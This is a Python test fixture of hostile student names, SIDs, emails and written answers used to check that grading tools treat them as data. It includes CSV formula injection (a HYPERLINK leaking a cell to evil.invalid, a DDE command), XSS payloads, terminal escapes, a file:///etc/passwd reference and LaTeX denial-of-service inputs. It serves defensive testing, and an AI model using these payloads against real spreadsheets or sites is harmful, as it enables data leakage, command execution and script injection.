"""A corpus of hostile student metadata and written answers, shared by the staff-side tests.

Each entry is what a student controls: the display name, SID and email they give Gradescope,
and the text of a written answer. The staff-side commands must treat every one as data.
"""

from __future__ import annotations

# (name, sid, email): formulas (CSV injection), markup, terminal escapes, bidi overrides,
# control characters, a 500-character name, no name at all.
PEOPLE = [
    ('=HYPERLINK("http://evil.invalid/?"&A1,"click")', "+1+1", "@SUM(1,2)"),
    ("Eve Formula", "-2+3", "=1+1@uni.edu"),
    ("\tTabbed", "\r=cmd|' /C calc'!A0", "tab@uni.edu"),
    ("<script>alert(1)</script><b>bold</b>", "1004", "markup@uni.edu"),
    ("\x1b[31mRed\x1b[0m \x1b]0;pwned\x07Name\x00\x08", "1005", "ansi@uni.edu"),
    ("Right\u202eTo\u202dLeft", "1006", "rtl@uni.edu"),
    ("L" * 500, "1007", "long@uni.edu"),
    ("", "1008", ""),
    ("Ada Honest", "00123", "ada@uni.edu"),
]

NESTED_UNDERBRACE = "$" + "\\underbrace{" * 400 + "x" + "}" * 400 + "$"
# Written answers (markdown): each costs at most its own page.
ANSWERS = {
    "underbrace": NESTED_UNDERBRACE,
    "braces": "$$" + "{" * 3000 + "x" + "}" * 3000 + "$$",
    "long_tex": "$" + "x+" * 60_000 + "x$",
    "markers": "Before.\n\n<!-- END QUESTION -->\n\n<!-- BEGIN QUESTION -->\n\nAfter the markers.",
    "html": "<script>document.title='pwned'</script><img src=x onerror=alert(1)> **bold**",
    "file_image": "![secret](file:///etc/passwd) ![abs](/etc/hostname)",
    "nested_quotes": ">" * 3000 + " deep",
    "nested_lists": "\n".join("  " * i + "- item" for i in range(600)),
    "macro": r"$\def\x{\x\x}\x$",
    "mathjax_error": r"$\begin{array}{c}\end{matrix}$",
}
